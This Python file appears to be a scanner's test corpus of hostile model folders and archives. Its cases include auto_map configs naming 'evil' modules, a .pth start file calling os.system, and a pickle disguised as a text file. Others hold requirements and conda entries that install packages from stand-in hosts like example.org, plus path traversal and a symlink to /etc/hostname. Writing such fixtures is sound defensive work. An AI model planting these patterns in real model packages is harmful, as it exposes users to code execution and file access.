"""Model folders, whole, in parts and in archives, whose configuration names code, packages or paths."""

from __future__ import annotations

import io
import json
import os
import tarfile
import zipfile

from corpus import Case, data
from corpus.opcodes import plain
from corpus.template_variants import _BERT, _folder

_AUTO = {**_BERT, "auto_map": {"AutoModel": "modeling_evil.Model"}}
_MODULES = [{"idx": 0, "name": "0", "path": "", "type": "evil.Module"}]
_MLMODEL = "flavors:\n  python_function:\n    loader_module: evil_loader\n    python_version: 3.11.0\n"
_SKLEARN = "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.skops\n"


def _zipped(files: dict[str, str], name: str = "model.zip"):
    def make(folder, marker):
        path = folder / name
        with zipfile.ZipFile(path, "w") as archive:
            for member, content in files.items():
                archive.writestr(member, content)
        return path

    return make


def _tarred(files: dict[str, bytes]):
    def make(folder, marker):
        path = folder / "model.tar"
        with tarfile.open(path, "w") as archive:
            for member, content in files.items():
                info = tarfile.TarInfo(member)
                info.size = len(content)
                archive.addfile(info, io.BytesIO(content))
        return path

    return make


def _beside(name: str, content):
    """A folder of transformers with one more file."""

    def make(folder, marker):
        path = _folder({"config.json": _BERT, "README.md": "words\n"})(folder, marker)
        (path / name).parent.mkdir(parents=True, exist_ok=True)
        (path / name).write_bytes(content(str(marker)) if callable(content) else content)
        return path

    return make


def _link(folder, marker):
    path = _folder({"config.json": _BERT, "README.md": "words\n"})(folder, marker)
    (path / "model.safetensors").symlink_to("/etc/hostname")
    return path


def _pipe(folder, marker):
    path = _folder({"config.json": _BERT, "README.md": "words\n"})(folder, marker)
    os.mkfifo(path / "weights.bin")
    return path


def _index(location: str, name: str):
    return {"metadata": {"total_size": 4}, "weight_map": {"a": location}}


HOSTILE = (
    Case("117b", "auto_map", _folder({"config.json": _AUTO, "README.md": "x\n"})),
    Case("117c", "auto_map in a file alone", data(json.dumps(_AUTO).encode(), "config.json")),
    Case("117d", "auto_map in a folder of one file", _folder({"config.json": _AUTO})),
    Case("117e", "auto_map of another repository", _folder({"config.json": {**_BERT, "auto_map": {"AutoConfig": "evil/repo--configuration.Config"}}, "a.txt": "x\n"})),
    Case("117f", "auto_map of a tokenizer", _folder({"tokenizer_config.json": {"auto_map": {"AutoTokenizer": ["t.Slow", None]}}, "vocab.txt": "a\n"})),
    Case("117g", "auto_map of a part", _folder({"model_index.json": {"_diffusers_version": "0.30", "_class_name": "X"}, "text_encoder/config.json": _AUTO})),
    Case("117h", "custom pipeline", _folder({"config.json": {**_BERT, "custom_pipelines": {"x": {"impl": "pipe.Evil", "pt": ["AutoModel"]}}}, "a.txt": "x\n"})),
    Case("117i", "modules of a stranger", _folder({"modules.json": _MODULES, "0_Transformer/config.json": _BERT})),
    Case("117j", "modules alone", data(json.dumps(_MODULES).encode(), "modules.json")),
    Case("117k", "code beside", _beside("modeling_evil.py", b"import os\nos.system('true')\n")),
    Case("117l", "library beside", _beside("kernel.so", b"\x7fELF\x02\x01\x01" + bytes(57))),
    Case("117m", "pickle beside", _beside("training_args.bin", plain)),
    Case("117n", "pickle with a text's name", _beside("merges.txt", plain)),
    Case("117o", "start file of Python", _beside("evil.pth", b"import os; os.system('true')\n")),
    Case("117p", "folder in a zip", _zipped({"config.json": json.dumps(_AUTO), "README.md": "x\n"})),
    Case("117q", "folder in a tar", _tarred({"m/config.json": json.dumps(_AUTO).encode(), "m/README.md": b"x\n"})),
    Case("117r", "MLflow loader", _folder({"MLmodel": _MLMODEL, "a.txt": "x\n"})),
    Case("117s", "MLflow loader alone", data(_MLMODEL.encode(), "MLmodel")),
    Case("117t", "MLflow loader in a zip", _zipped({"MLmodel": _MLMODEL, "a.txt": "x\n"})),
    Case("117u", "MLflow installs from an address", _folder({"MLmodel": _SKLEARN, "requirements.txt": "numpy\nevil @ https://example.org/evil.zip\n"})),
    Case("117v", "MLflow installs from another index", _folder({"MLmodel": _SKLEARN, "requirements.txt": "--extra-index-url https://example.org/simple\nevil\n"})),
    Case("117w", "MLflow installs by conda", _folder({"MLmodel": _SKLEARN, "conda.yaml": "dependencies:\n- python=3.11\n- pip:\n  - git+https://example.org/evil\n"})),
    Case("117x", "MLflow code below", _folder({"MLmodel": _SKLEARN + "    code: code\n", "code/helper.txt": "x\n"})),
    Case("117y", "MLflow path above", _folder({"MLmodel": _SKLEARN.replace("model.skops", "../../model.skops"), "a.txt": "x\n"})),
    Case("117z", "MLflow path by another name", _folder({"MLmodel": "flavors:\n  onnx:\n    onnx_version: 1\n    data: /etc/hostname\n", "a.txt": "x\n"})),
    Case("118b", "index leads above", _folder({"config.json": _BERT, "pytorch_model.bin.index.json": _index("../../evil.bin", "")})),
    Case("118c", "index of safetensors leads elsewhere", _folder({"config.json": _BERT, "model.safetensors.index.json": _index("/etc/model.safetensors", "")})),
    Case("118d", "index alone", data(json.dumps(_index("..\\evil.bin", "")).encode(), "pytorch_model.bin.index.json")),
    Case("118e", "link out of the folder", _link),
    Case("118f", "pipe in the folder", _pipe),
    Case("118g", "module path above", _folder({"modules.json": [{"idx": 0, "name": "0", "path": "../../x", "type": "sentence_transformers.models.Transformer"}], "0/config.json": _BERT})),
)  # fmt: skip
